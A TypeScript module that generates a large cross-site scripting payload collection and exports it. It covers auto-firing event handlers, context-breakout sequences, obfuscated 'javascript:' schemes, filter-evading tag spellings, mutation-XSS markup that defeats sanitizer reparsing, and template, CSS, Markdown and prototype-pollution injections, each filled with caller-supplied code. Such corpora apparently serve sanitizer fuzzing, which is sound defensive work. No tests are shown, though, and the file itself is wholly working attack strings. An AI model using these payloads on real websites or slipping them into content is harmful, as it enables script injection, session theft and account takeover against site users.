const handlers = 'onload onerror onclick onfocus onmouseover onanimationstart ontoggle onpointerenter onbegin onscroll'

/** Elements that run something by themselves, each by its own event. */
const elements =
  `img src=x onerror|image src=x onerror|svg onload|body onload|body onpageshow|iframe onload|iframe src=x onerror
video src=x onerror|video autoplay oncanplay|audio src=x onerror|source onerror|track default src=x onerror|object data=x onerror
embed src=x onload|script src=x onerror|link rel=stylesheet href=x onerror|style onload|input type=image src=x onerror
select autofocus onfocus|textarea autofocus onfocus|button autofocus onfocus|a href=x autofocus onfocus|keygen autofocus onfocus
marquee onstart|marquee loop=1 onfinish|details open ontoggle|dialog open onclose|form oninput|fieldset autofocus onfocusin
svg><animate attributeName=x dur=1s onbegin|svg><animate attributeName=x dur=1s onend|svg><set attributeName=x onbegin
svg><animateTransform attributeName=x dur=1s onbegin|svg><image href=x onerror|svg><discard onbegin|math><mi onclick|frameset onload
x style=animation:x onanimationend|x style=transition:1s tabindex=1 ontransitionend|x contenteditable autofocus onbeforeinput
x onpointerrawupdate|x onwheel|x oncontentvisibilityautostatechange style=content-visibility:auto|x popover onbeforetoggle
x hidden=until-found onbeforematch|isindex type=image src=x onerror|bgsound src=x onerror|applet code=x onerror|portal src=x onload`.split(
    /[|\n]/,
  )

/** What ends the place that a text was put into. */
const ends = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '`>',
    '/>',
    '>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '*/',
    '\\";',
    "\\';",
    '</',
    '\n',
    '\u2028',
  ],
  ...'title textarea style script noscript template select option xmp plaintext iframe svg math table'
    .split(' ')
    .map((name) => `</${name}>`),
]

/** Writings of an address that a browser takes for `javascript:`. */
const schemes = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    '\njavascript:',
    '\u0001javascript:',
    'java\tscript:',
  ],
  ...['java\nscript:', 'javascript\t:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', '&#106;avascript:'],
  ...[
    '&#x6A;avascript:',
    '&#0000106avascript:',
    'java&Tab;script:',
    'java&NewLine;script:',
    'javascript://%0a',
    'javascript:/*-->*/',
  ],
  ...[
    'vbscript:',
    'livescript:',
    'feed:javascript:',
    'view-source:javascript:',
    'blob:javascript:',
    'data:text/html,<script>parent.',
  ],
]

/** Where an address stands. */
const addresses: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">链接</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `[链接](${address})`,
  (address) => address,
]

/** Writings of one element that a filter may take for another, or for none. */
const spellings: readonly ((run: string) => string)[] = [
  (run) => `<img\tsrc=x\tonerror=${run}>`,
  (run) => `<img\nsrc=x\nonerror=${run}>`,
  (run) => `<img\fsrc=x\fonerror=${run}>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img src=x onerror\n=\n${run}>`,
  (run) => `<img src=x onerror=&#95;&#95;xss(${run.slice(6, -1)})>`,
  (run) => `<img src=x:x onerror="${run}"`,
  (run) => `<<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror=${run}//`,
  (run) => `<IMG SRC=x ONERROR=${run}>`,
  (run) => `<img src='x' onerror='${run}'>`,
  (run) => `<img src=\`x\` onerror=\`${run}\`>`,
  (run) => `<img """><script>${run}</script>">`,
  (run) => `<img src=x data-x=">" onerror=${run}>`,
  (run) => `<\u0000img src=x onerror=${run}>`,
  (run) => `<im\u0000g src=x onerror=${run}>`,
  (run) => `\u202e<img src=x onerror=${run}>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `¼script¾${run}¼/script¾`,
  (run) => `＜img src=x onerror=${run}＞`,
  (run) => `%26lt;script%26gt;${run}%26lt;/script%26gt;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
]

/** Markup that is harmless until it is read a second time. */
const mutating: readonly ((run: string) => string)[] = [
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<table><td><svg><desc><td></desc><img src=x onerror=${run}></svg>`,
  (run) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  (run) => `<svg><title><style><img title="</style><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><svg/onload=${run}>">`,
  (run) => `<p id="a"><a id="&quot;><img src=x onerror=${run}>">`,
  (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
]

/** What other languages would compute from a text: templates, styles, formulas, ways into a prototype. */
const templates: readonly ((run: string) => string)[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{$on.constructor('${run}')()}}`,
  (run) => `{{=${run}}}`,
  (run) => `{{{${run}}}}`,
  (run) => `{%${run}%}`,
  (run) => `[[${run}]]`,
  (run) => `*{${run}}`,
  (run) => `@(${run})`,
  (run) => `\${${run}}`,
  (run) => `\${\`\${${run}}\`}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `<?= ${run} ?>`,
  (run) => `[constructor].join\`${run}\``,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `$\\href{javascript:${run}}{x}$`,
  (run) => `\\(\\unicode{<img src=x onerror=${run}>}\\)`,
  (run) => `$\\htmlData{x=" onmouseover=${run}}{x}$`,
  (run) => `![图](x" onerror="${run})`,
  (run) => `[链接][1]\n\n[1]: javascript:${run}`,
  (run) => `<javascript:${run}>`,
  (run) => `\`\`\`\n</code><img src=x onerror=${run}>\n\`\`\``,
  (run) => `<p style="background:url(javascript:${run})">文</p>`,
  (run) => `<p style="width:expression(${run})">文</p>`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `WEBVTT\n\n00:00.000 --> 00:09.000\n<c onclick=${run}><img src=x onerror=${run}>`,
]

/** The plain ones, and those that need an element of their own. */
const plain: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script\n>${run}</script\n>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}" />`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>链接</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  (run) => `<math href="javascript:${run}">公式</math>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>提交</button></form>`,
  (run) => `<button formaction="javascript:${run}">提交</button>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<meta http-equiv="refresh" content="0;javascript:${run}">`,
  (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `\u0000<script>${run}</script>`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
]

/** What runs where a text is taken for markup, an address, a style or a template: each calls what it is told. */
export function payloadsThat(run: string): string[] {
  const made = [
    ...plain.map((write) => write(run)),
    ...handlers.split(' ').map((handler) => `<input autofocus tabindex=1 ${handler}="${run}" style="animation:x">`),
    ...elements.map((element) => `<${element}=${run}>`),
    ...ends.flatMap((end) => [`${end}<script>${run}</script>`, `${end}<img src=x onerror=${run}>`]),
    ...schemes.flatMap((scheme) => addresses.map((stand) => stand(`${scheme}${run}`))),
    ...[...spellings, ...mutating, ...templates].map((write) => write(run)),
  ]
  return [...new Set(made)]
}
